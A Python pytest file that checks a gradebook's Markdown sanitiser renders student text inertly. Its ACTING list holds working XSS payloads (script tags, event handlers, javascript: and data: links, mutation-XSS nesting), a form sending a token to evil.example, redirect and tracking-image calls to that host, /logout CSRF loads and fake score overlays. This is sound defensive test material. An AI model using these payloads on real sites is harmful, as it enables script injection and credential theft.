"""A student's Markdown reads as Markdown, and nothing in it acts or loads."""

from __future__ import annotations

import pytest
from bs4 import BeautifulSoup

from proctorch.gradebook.prose import inert_markdown


def rendered(source: str) -> BeautifulSoup:
    return BeautifulSoup(inert_markdown({}, source), "html.parser")


ACTING = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<style>body { display: none }</style>",
    "<div style='position:fixed;top:0'>10 of 10 points</div>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<form action=http://evil.example><input name=token><button>Go</button></form>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<base href=http://evil.example/>",
    "<a href='jav\tascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![x](http://evil.example/seen.png)",
    "![x](//evil.example/seen.png)",
    "![x](/logout)",
    "![x](../../logout)",
    "<div class='score save-icon' id='notebook'>x</div>",
    '<details ontoggle=alert(1) open><p style="color:red">x</details>',
    "# <script>alert(1)</script> [x](javascript:alert(1))",
    "\x1b]8;;http://evil.example\x07x\x1b]8;;\x07 \u202etxt",
)


@pytest.mark.parametrize("source", ACTING)
def test_nothing_acts_or_loads(source):
    for tag in rendered(source).find_all(True):
        assert tag.name not in {"script", "style", "svg", "math", "iframe", "form", "input", "button", "meta", "base"}
        assert not any(name.startswith("on") or name == "style" for name in tag.attrs), tag
        assert not {"score", "save-icon"} & set(tag.get("class", [])), tag
        assert tag.get("id") != "notebook"
        for name in ("src", "href"):
            address = str(tag.get(name, "")).lower()
            assert not address.startswith(("javascript", "data:text", "/", "..")), tag
            assert name == "href" or "evil" not in address, tag


def test_prose_is_rendered_as_before():
    page = rendered(
        "## A heading\n\nSome *emphasis*, `code`, a [link](https://pytorch.org) and $x < y$.\n\n"
        "| a | b |\n|---|---|\n| 1 | 2 |\n\n```python\nx = 1\n```\n\n- one\n- two\n\n"
        "![dot](data:image/png;base64,AAAA)\n"
    )
    assert page.h2 is not None and page.h2["id"] == "A-heading"
    assert page.em is not None and page.table is not None and len(page.find_all("li")) == 2
    assert page.find("a", href="https://pytorch.org") is not None
    assert "$x < y$" in page.get_text()
    assert page.select_one("div.highlight pre span.n") is not None
    assert page.find("img", src="data:image/png;base64,AAAA") is not None
